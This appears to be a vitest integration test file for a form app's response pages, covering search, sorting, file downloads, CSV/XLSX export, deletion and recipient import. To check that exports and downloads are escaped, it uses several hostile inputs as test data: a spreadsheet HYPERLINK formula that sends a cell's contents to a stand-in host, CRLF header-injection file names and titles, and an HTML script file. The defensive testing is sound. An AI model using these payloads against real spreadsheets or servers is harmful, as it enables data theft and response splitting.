import * as XLSX from "@e965/xlsx";
import Papa from "papaparse";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { Answers, FormElement } from "../../app/forms/definition.ts";
import type { Form } from "../../app/forms/find-form.server.ts";
import { publishForm } from "../../app/forms/publish-form.server.ts";
import { newId } from "../../app/ids.ts";
import { addResponseFile, addResponses } from "../factories/form-responses.ts";
import { addPublishedForm, contactQuestions, element } from "../factories/published-form.ts";
import { startApp, type TestApp } from "../setup/start-app.ts";

type Organiser = Awaited<ReturnType<TestApp["organiser"]>>;

const NOW = new Date("2026-03-10T11:00:00.000Z");
const FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Click")';

let app: TestApp;
let owner: Organiser;
let stranger: Organiser;
let form: Form;
let base: string;

beforeAll(async () => {
  app = await startApp({ overrides: { clock: () => NOW } });
  owner = await app.organiser({ email: "owner@lagoon.test" });
  stranger = await app.organiser({ email: "stranger@other.test" });
});
afterAll(() => app.stop());

beforeEach(async () => {
  form = await addForm([...contactQuestions(), track()]);
  base = `/forms/${form.id}/responses`;
});

const addForm = (elements: FormElement[]) => addPublishedForm(app.installation, owner, { elements });

function track(options = ["Data", "Design", "Writing"]): FormElement {
  return element("single-choice", { id: "trackabc", label: "Which track?", settings: { options } });
}

const person = (first: string, last: string, more: Answers = {}): Answers => ({
  fullname: { first, last },
  emailadr: `${first
    .normalize("NFD")
    .replace(/[^A-Za-z]/g, "")
    .toLowerCase()}@people.test`,
  ...more,
});

/** The words of a page, without tags and with single spaces. */
const wordsOf = (html: string) =>
  html
    .replaceAll("<!-- -->", "")
    .replace(/<script[\s\S]*?<\/script>/g, "")
    .replace(/<[^>]+>/g, " ")
    .replace(/&#x27;/g, "'")
    .replace(/\s+/g, " ");

/** Names in the table, top to bottom. */
async function namesAt(query: string): Promise<string[]> {
  const html = await owner.page(base + query);
  const cells = html.matchAll(/<a class="font-semibold hover:underline"[^>]*>([^<]*)<\/a>/g);
  return [...cells].map(([, name]) => name!);
}

const countOf = async () =>
  (await app.installation.db.selectFrom("forms").select("responseCount").where("id", "=", form.id).executeTakeFirstOrThrow())
    .responseCount;

test("a form without answers shows its link, one that is not published says so", async () => {
  expect(await owner.page(base)).toContain(`http://localhost:3000/f/${form.slug}`);
  await app.installation.db.updateTable("forms").set({ publishedVersionId: null }).where("id", "=", form.id).execute();
  const words = wordsOf(await owner.page(base));
  expect(words).toContain("not published yet");
  expect(words).not.toContain("/f/");
});

test("the table shows who answered what, newest first, and sorts and pages", async () => {
  await addResponses(
    app.installation,
    form.id,
    Array.from({ length: 60 }, (_, n) => ({
      answers: person(`P${String(n + 1).padStart(2, "0")}`, "Bello", { employer: `Firm ${n + 1}`, trackabc: "Data" }),
    })),
  );
  expect((await namesAt("")).slice(0, 2)).toEqual(["P60 Bello", "P59 Bello"]);
  expect(await namesAt("?page=3")).toEqual(Array.from({ length: 10 }, (_, n) => `P${String(10 - n).padStart(2, "0")} Bello`));
  expect(await namesAt("?page=999&sort=oldest")).toHaveLength(10);
  expect((await namesAt("?sort=name"))[0]).toBe("P01 Bello");
  const words = wordsOf(await owner.page(base));
  expect(words).toContain("60 responses");
  for (const text of ["Where do you work?", "Which track?", "Firm 60", "Data", "1 to 25 of 60 responses"])
    expect(words).toContain(text);
});

test("names sort without regard to marks and capitals; those without a name come last", async () => {
  await addResponses(app.installation, form.id, [
    { answers: person("Ọlá", "Zed") },
    { answers: { employer: "Nobody" } },
    { answers: person("amina", "Bello") },
    { answers: person("Élodie", "Ka") },
  ]);
  expect(await namesAt("?sort=name")).toEqual(["amina Bello", "Élodie Ka", "Ọlá Zed", "Response 2"]);
});

test("search finds words in any answer, filters by answer, day in the account's zone and version", async () => {
  await addResponses(app.installation, form.id, [
    // 23:30 on the 4th and 00:30 on the 5th in Lagos.
    { answers: person("Fúnmiláyọ̀", "Adébáyọ̀", { employer: "Zenith 100%", trackabc: "Data" }), at: "2026-03-04T22:30:00.000Z" },
    { answers: person("Ngozi", "Eze", { employer: "Lagos_State", trackabc: "Design" }), at: "2026-03-04T23:30:00.000Z" },
    { answers: person("Musa", "Ali", { trackabc: "Data" }), at: "2026-03-06T10:00:00.000Z" },
  ]);
  expect(await namesAt("?search=funmilayo")).toEqual(["Fúnmiláyọ̀ Adébáyọ̀"]);
  expect(await namesAt("?search=lagos")).toEqual(["Ngozi Eze"]);
  expect(await namesAt("?q=trackabc&is=Data")).toEqual(["Musa Ali", "Fúnmiláyọ̀ Adébáyọ̀"]);
  expect(await namesAt("?answer=trackabc%3AData&sort=oldest")).toEqual(["Fúnmiláyọ̀ Adébáyọ̀", "Musa Ali"]);
  expect(await namesAt("?q=trackabc&is=Data&search=zenith")).toEqual(["Fúnmiláyọ̀ Adébáyọ̀"]);
  expect(await namesAt("?from=2026-03-05&to=2026-03-05")).toEqual(["Ngozi Eze"]);
  expect(await namesAt("?to=2026-03-04")).toEqual(["Fúnmiláyọ̀ Adébáyọ̀"]);
  expect(await namesAt("?from=2026-02-31")).toHaveLength(3);
  expect(await namesAt("?q=emailadr&is=x")).toEqual([]);
  expect(wordsOf(await owner.page(`${base}?search=nobodyhasthis`))).toContain("No response matches");
});

test("answers stay with their version: what is no longer asked comes after what is, and says so", async () => {
  const { db } = app.installation;
  const [first = ""] = await addResponses(app.installation, form.id, [
    { answers: person("Ada", "Obi", { employer: "Zenith", trackabc: "Writing" }) },
  ]);
  const draft = {
    elements: [
      element("short-text", { id: "townaaaa", label: "Your town" }),
      ...contactQuestions().slice(0, 2),
      { ...track(["Data", "Films"]), label: "Your track" },
    ],
  };
  await db
    .updateTable("forms")
    .set({ draft: JSON.stringify(draft) })
    .where("id", "=", form.id)
    .execute();
  await db
    .transaction()
    .execute((trx) => publishForm(trx, { ...form, draft: JSON.stringify(draft) }, { userId: owner.userId, now: NOW }));
  await addResponses(app.installation, form.id, [{ answers: person("Uche", "Ike", { townaaaa: "Enugu", trackabc: "Films" }) }]);

  expect(await namesAt("?version=1")).toEqual(["Ada Obi"]);
  expect(await namesAt("?q=trackabc&is=Writing")).toEqual(["Ada Obi"]);
  const old = wordsOf(await owner.page(`${base}/${first}`));
  for (const text of ["Which track?", "Where do you work?", "Zenith", "1 of 2"]) expect(old).toContain(text);
  expect(old).not.toContain("Your town");

  const sheet = await csvAt(`${base}/export.csv`);
  expect(sheet[0]!.slice(3)).toEqual([
    ...["Your town", "First name", "Last name", "Email Address", "Your track", "Where do you work? (no longer asked)", "Version"],
  ]);
  expect(sheet.slice(1).map((row) => row.slice(3))).toEqual([
    ["", "Ada", "Obi", "ada@people.test", "Writing", "Zenith", "1"],
    ["Enugu", "Uche", "Ike", "uche@people.test", "Films", "", "2"],
  ]);
  const summary = wordsOf(await owner.page(`${base}/summary`));
  expect(summary).toContain("Data 0% 0 0% Films 50% 1 50% Design 0% 0 0% Writing 50% 1 50%");
});

test("one response shows every answer, leads to the ones beside it within the filter, and says its place in the webinar", async () => {
  const ids = await addResponses(app.installation, form.id, [
    { answers: person("One", "A", { trackabc: "Data" }) },
    { answers: person("Two", "B", { trackabc: "Design", employer: "Two\nlines <b>" }) },
    { answers: person("Three", "C", { trackabc: "Data" }) },
  ]);
  const html = await owner.page(`${base}/${ids[1]}`);
  expect([html.includes(`${base}/${ids[0]}"`), html.includes(`${base}/${ids[2]}"`)]).toEqual([true, true]);
  expect(html).toContain("Two\nlines &lt;b&gt;");
  const filtered = await owner.page(`${base}/${ids[2]}?q=trackabc&is=Data`);
  expect(filtered).toContain(`${base}/${ids[0]}?q=trackabc&amp;is=Data"`);
  expect(filtered).not.toContain(`${base}/${ids[1]}`);
});

test("a file is a download under its own name, never shown, and only for its account and its response", async () => {
  const [one = "", two = ""] = await addResponses(app.installation, form.id, [
    { answers: person("Ada", "Obi") },
    { answers: person("Uche", "Ike") },
  ]);
  const name = 'Ọmọ "CV"\r\nX-Evil: 1.html';
  const file = await addResponseFile(app.installation, one, {
    ...{ elementId: "employer", name, contentType: "text/html", content: "<script>alert(1)</script>" },
  });
  expect(await owner.page(`${base}/${one}`)).toContain(`${base}/${one}/files/${file.id}`);
  const answer = await owner.get(`${base}/${one}/files/${file.id}`);
  expect([answer.status, await answer.text()]).toEqual([200, "<script>alert(1)</script>"]);
  expect(answer.headers.get("X-Content-Type-Options")).toBe("nosniff");
  expect(answer.headers.get("Content-Disposition")).toMatch(/^attachment; filename="[^"\r\n]+"; filename\*=UTF-8''[^\s"]+$/);
  expect(answer.headers.get("X-Evil")).toBeNull();
  expect(answer.headers.get("Content-Security-Policy")).toContain("sandbox");
  expect((await owner.get(`${base}/${two}/files/${file.id}`)).status).toBe(404);
  expect((await stranger.get(`${base}/${one}/files/${file.id}`)).status).toBe(404);
});

test("another account sees none of it", async () => {
  const [id = ""] = await addResponses(app.installation, form.id, [{ answers: person("Ada", "Obi") }]);
  for (const path of [
    "",
    `/${id}`,
    "/summary",
    "/recipients",
    "/export.csv",
    "/export.xlsx",
    `/delete?id=${id}`,
    `/${id}/delete`,
  ])
    expect([path, (await stranger.get(base + path)).status]).toEqual([path, 404]);
  for (const path of [`/delete?id=${id}`, `/${id}/delete`, "/recipients"])
    expect([path, (await stranger.post(base + path, {})).status]).toEqual([path, 404]);
  const other = await addPublishedForm(app.installation, stranger, {});
  expect((await stranger.get(`/forms/${other.id}/responses/${id}`)).status).toBe(404);
  await stranger.post(`/forms/${other.id}/responses/delete?id=${id}`, {});
  expect(await countOf()).toBe(1);
});

async function csvAt(path: string): Promise<string[][]> {
  const answer = await owner.get(path);
  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([200, "text/csv; charset=utf-8"]);
  const bytes = Buffer.from(await answer.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const { data, errors } = Papa.parse<string[]>(bytes.toString("utf8").slice(1), { skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

async function sheetAt(path: string): Promise<XLSX.WorkSheet> {
  const answer = await owner.get(path);
  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([
    200,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  ]);
  const book = XLSX.read(Buffer.from(await answer.arrayBuffer()), { cellFormula: true });
  return book.Sheets[book.SheetNames[0]!]!;
}

test("C24 both spreadsheets hold what was answered, as text: no formula, and phone numbers keep plus and zeros", async () => {
  const phone = element("short-text", { id: "phoneabc", label: "=Phone" });
  form = await addForm([...contactQuestions(), phone]);
  base = `/forms/${form.id}/responses`;
  const texts = [
    FORMULA,
    "+2348031234567",
    "0803",
    "-1+2",
    "@SUM(A1)",
    "＝1",
    "a\r\nb",
    'He said "hi", twice',
    "_x0041_ \u0001\ud800 & <b>",
    "007",
  ];
  await addResponses(
    app.installation,
    form.id,
    texts.map((text, n) => ({
      answers: person(`P${n}`, "Ọkọ́", { employer: text, phoneabc: text }),
      at: "2026-03-04T22:30:00.000Z",
    })),
  );
  const sheet = await csvAt(`${base}/export.csv`);
  expect(sheet).toHaveLength(texts.length + 1);
  expect(sheet[0]).toEqual([
    ...["No.", "Reference", "Sent in (Lagos time)", "First name", "Last name", "Email Address", "Where do you work?", "'=Phone"],
  ]);
  expect(sheet[1]!.slice(2, 6)).toEqual(["2026-03-04 23:30", "P0", "Ọkọ́", "p@people.test"]);
  for (const row of sheet) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d]/);
  expect(sheet[1]![6]).toBe(`'${FORMULA}`);

  const workbook = await sheetAt(`${base}/export.xlsx`);
  const rows = XLSX.utils.sheet_to_json<string[]>(workbook, { header: 1, raw: true });
  expect(rows[0]!.slice(-1)).toEqual(["=Phone"]);
  const kept = texts.map((text) => text.replace(/[\u0001\ud800]/g, "").replace("\r\n", "\n"));
  expect(rows.slice(1).map((row) => row[6])).toEqual(kept);
  expect(rows.slice(1).map((row) => row[7])).toEqual(kept);
  expect(rows[1]![0]).toBe(1);
  for (const [at, cell] of Object.entries(workbook) as [string, XLSX.CellObject][])
    if (!at.startsWith("!")) expect([at, cell.f, cell.t]).toEqual([at, undefined, at.startsWith("A") && at !== "A1" ? "n" : "s"]);
});

test("a spreadsheet holds what the table shows, in whatever name a form has", async () => {
  await app.installation.db
    .updateTable("forms")
    .set({ title: 'Ọjọ́: "best" [form]/2026?\r\nX: y' })
    .where("id", "=", form.id)
    .execute();
  await addResponses(
    app.installation,
    form.id,
    Array.from({ length: 1203 }, (_, n) => ({ answers: person(`P${n}`, "X", { trackabc: n % 3 ? "Data" : "Design" }) })),
  );
  const query = "?q=trackabc&is=Design";
  const numbers = Array.from({ length: 401 }, (_, n) => String(n * 3 + 1));
  expect((await csvAt(`${base}/export.csv${query}`)).slice(1).map(([number]) => number)).toEqual(numbers);
  const rows = XLSX.utils.sheet_to_json<string[]>(await sheetAt(`${base}/export.xlsx${query}`), { header: 1 });
  expect(rows.slice(1).map(([number]) => String(number))).toEqual(numbers);
  expect(wordsOf(await owner.page(base + query))).toContain("of 401 responses");
  const answer = await owner.get(`${base}/export.xlsx`);
  expect(answer.headers.get("Content-Disposition")).not.toMatch(/[\r\n]/);
  expect(answer.headers.get("X")).toBeNull();
  await answer.arrayBuffer();
});

test("deleting asks, says how many, removes files too, and keeps the count right", async () => {
  const ids = await addResponses(app.installation, form.id, [
    { answers: person("One", "A", { trackabc: "Data" }) },
    { answers: person("Two", "B", { trackabc: "Design" }) },
    { answers: person("Three", "C", { trackabc: "Data" }) },
  ]);
  const { db, files } = app.installation;
  const file = await addResponseFile(app.installation, ids[0]!, { elementId: "employer", name: "cv.pdf", content: "x" });
  const kept = await addResponseFile(app.installation, ids[1]!, { elementId: "employer", name: "cv.pdf", content: "x" });
  expect(wordsOf(await owner.page(`${base}/delete`))).toContain("No response is selected");
  expect(wordsOf(await owner.page(`${base}/delete?id=${ids[0]}&id=${ids[2]}&id=x`))).toContain("Delete 2 responses?");
  expect(wordsOf(await owner.page(`${base}/delete?all=1`))).toContain("Delete 3 responses?");
  const all = `${base}/delete?all=1&q=trackabc&is=Data&id=${ids[1]}`;
  expect(wordsOf(await owner.page(all))).toContain("Delete 2 responses?");
  expect(await countOf()).toBe(3);

  const answer = await owner.post(all, {});
  expect([answer.status, answer.headers.get("Location")]).toEqual([303, base]);
  expect(await owner.page(base)).toContain("2 responses were deleted.");
  expect([await countOf(), await files.has(file.fileKey), await files.has(kept.fileKey)]).toEqual([1, false, true]);
  await owner.post(all, {});
  expect(await countOf()).toBe(1);
  expect((await owner.post(`${base}/${ids[1]}/delete`, {})).status).toBe(303);
  expect([await countOf(), await files.has(kept.fileKey)]).toEqual([0, false]);
  expect(await db.selectFrom("formFiles").select("id").where("formId", "=", form.id).execute()).toEqual([]);
  // Numbers are never given twice.
  const [next = ""] = await addResponses(app.installation, form.id, [{ answers: person("Four", "D") }]);
  expect(wordsOf(await owner.page(`${base}/${next}`))).toContain("Response 4");
});

test("the summary counts every answer, draws it, and says the same in a table", async () => {
  const several = element("multiple-choice", {
    id: "toolsabc",
    label: "Tools?",
    settings: { options: ["Excel", "R"], other: true },
  });
  const lines = element("matrix", {
    id: "linesabc",
    label: "How was it?",
    settings: { rows: ["Room", "Food"], columns: ["Good", "Bad"] },
  });
  form = await addForm([...contactQuestions(), track(), several, lines, element("scale", { id: "scaleabc", label: "Again?" })]);
  base = `/forms/${form.id}/responses`;
  const given: Answers[] = [
    {
      trackabc: "Data",
      toolsabc: ["Excel", "R"],
      linesabc: [
        ["Room", "Good"],
        ["Food", "Bad"],
      ],
      scaleabc: 9,
    },
    { trackabc: "Data", toolsabc: ["Excel", "SPSS"], linesabc: [["Room", "Good"]], scaleabc: 8 },
    { trackabc: "Design", scaleabc: 0 },
  ];
  await addResponses(
    app.installation,
    form.id,
    given.map((answers, n) => ({
      answers: person(`P${n}`, "X", answers),
      at: n === 2 ? "2026-03-04T22:59:59.000Z" : "2026-03-04T23:00:00.000Z",
    })),
  );
  const words = wordsOf(await owner.page(`${base}/summary`));
  expect(words).toContain("Data 67% 2 67% Design 33% 1 33% Writing 0% 0 0%");
  expect(words).toContain("2 of 3 answered");
  expect(words).toContain("Excel 100% 2 100% R 50% 1 50% Other 50% 1 50%");
  expect(words).toContain("People could choose more than one");
  expect(words).toContain("Room 2 100% 100% 0 0% 0% Food 0 0% 0% 1 100% 100%");
  expect(words).toContain("On average 5.67");
  expect(words).toContain("4 Mar 2026 1 5 Mar 2026 2");
  expect(wordsOf(await owner.page(`${base}/summary?q=trackabc&is=Design`))).toContain("1 of 3 responses match the filter");
});

test("answers become recipients of a new certificate: guessed, checked, added once, and matched the same way next time", async () => {
  await addResponses(app.installation, form.id, [
    { answers: person("Fúnmiláyọ̀", "Adébáyọ̀", { employer: "Zenith" }) },
    { answers: person("Fúnmiláyọ̀", "Adébáyọ̀", { employer: "Again" }) },
    { answers: { fullname: { first: "Ada", last: "Obi" } } },
    { answers: { emailadr: "nameless@people.test" } },
    { answers: person("Musa", "", { employer: "One name" }) },
    { answers: { ...person("Typo", "X"), emailadr: "typo@gmial.com" } },
  ]);
  const { db } = app.installation;
  const path = `${base}/recipients`;
  const html = await owner.page(path);
  const fields = selected(html);
  expect(fields).toMatchObject({
    "use-0": "firstName",
    "use-1": "lastName",
    "use-2": "skip",
    "use-3": "email",
    "use-5": "skip",
  });
  expect(Object.values(fields)).toContain("field:Where do you work?");

  const none = await owner.post(path, { ...fields, "use-3": "skip", intent: "check" });
  expect(none.status).toBe(422);
  const problems = wordsOf(await none.text());
  expect(problems).toContain("used as Email Address");
  expect(problems).toContain("Tick this if it is so");

  const wish = { ...fields, target: "new-project", title: "CV class", consent: "yes", token: "t1" };
  const check = await owner.post(path, { ...wish, intent: "check" });
  expect(check.status).toBe(200);
  const report = wordsOf(await check.text());
  expect(report).toContain("To add 3 There already 1 Left out 2");
  expect(report).toContain("No e-mail address was given");
  expect(report).toContain("The name is missing");
  expect(await db.selectFrom("recipients").select("id").execute()).toEqual([]);

  const added = await owner.post(path, { ...wish, intent: "add" });
  const location = added.headers.get("Location")!;
  expect([added.status, location]).toEqual([303, expect.stringMatching(/^\/certificates\/\w+\/recipients$/)]);
  const people = wordsOf(await owner.page(location));
  expect(people).toContain("3 people were added to CV class. 1 was there already. 2 were left out");
  for (const text of ["Fúnmiláyọ̀", "Adébáyọ̀", "typo@gmial.com", "musa@people.test"]) expect(people).toContain(text);
  const rows = await db.selectFrom("recipients").select(["firstName", "fields", "searchText"]).orderBy("position").execute();
  expect(rows[0]).toEqual({
    firstName: "Fúnmiláyọ̀",
    fields: JSON.stringify({ "Where do you work?": "Zenith" }),
    searchText: "funmilayo adebayo funmilayo@people.test",
  });
  // The button pressed twice makes one project.
  expect((await owner.post(path, { ...wish, intent: "add" })).headers.get("Location")).toBe(location);
  expect(await db.selectFrom("recipients").select("id").execute()).toHaveLength(3);

  const changed = { ...wish, "use-4": "certificateName", token: "t2", target: `project:${location.split("/")[2]}` };
  const again = await owner.post(path, { ...changed, intent: "add" });
  expect(again.headers.get("Location")).toBe(location);
  expect(wordsOf(await owner.page(location))).toContain("Nobody was added to CV class. 4 were there already.");
  expect(selected(await owner.page(path))).toMatchObject({ "use-4": "certificateName" });
});

test("only those ticked, or found, become recipients, of a saved list too; another account's project is not there", async () => {
  const ids = await addResponses(app.installation, form.id, [
    { answers: person("One", "A", { trackabc: "Data" }) },
    { answers: person("Two", "B", { trackabc: "Design" }) },
    { answers: person("Three", "C", { trackabc: "Data" }) },
  ]);
  const { db } = app.installation;
  const fields = { ...selected(await owner.page(`${base}/recipients`)), consent: "yes", title: "Mail list", intent: "add" };
  const post = (query: string, more: Record<string, string>) => owner.post(`${base}/recipients?${query}`, { ...fields, ...more });
  const made = await post("all=1&q=trackabc&is=Data", { target: "new-list", token: newId() });
  expect(made.headers.get("Location")).toBe(base);
  const list = await db
    .selectFrom("recipientLists")
    .select(["id", "columns"])
    .where("name", "=", "Mail list")
    .executeTakeFirstOrThrow();
  const names = async () =>
    (await db.selectFrom("recipients").select("firstName").where("listId", "=", list.id).orderBy("position").execute()).map(
      ({ firstName }) => firstName,
    );
  expect(await names()).toEqual(["One", "Three"]);
  expect(JSON.parse(list.columns)).toContain("Which track?");
  await post(`id=${ids[1]}&id=${ids[0]}`, { target: `list:${list.id}`, token: newId() });
  expect(await names()).toEqual(["One", "Three", "Two"]);

  const theirs = newId();
  await db
    .insertInto("recipientLists")
    .values({ id: theirs, accountId: stranger.accountId, name: "T", columns: "[]", createdAt: "x", updatedAt: "x" })
    .execute();
  for (const intent of ["check", "add"])
    expect((await post("", { target: `list:${theirs}`, token: newId(), intent })).status).toBe(404);
  expect((await post("", { target: "list:../x", token: newId() })).status).toBe(422);
});

/** The chosen option of each select whose name begins with `use-`, as a form would post it. */
function selected(html: string): Record<string, string> {
  const fields: Record<string, string> = {};
  for (const [, name, options] of html.matchAll(/<select[^>]* name="(use-\d+)"[^>]*>([\s\S]*?)<\/select>/g)) {
    const chosen = /<option selected="" value="([^"]*)"|<option value="([^"]*)" selected=""/.exec(options!);
    fields[name!] = chosen?.[1] ?? chosen?.[2] ?? "";
  }
  return fields;
}
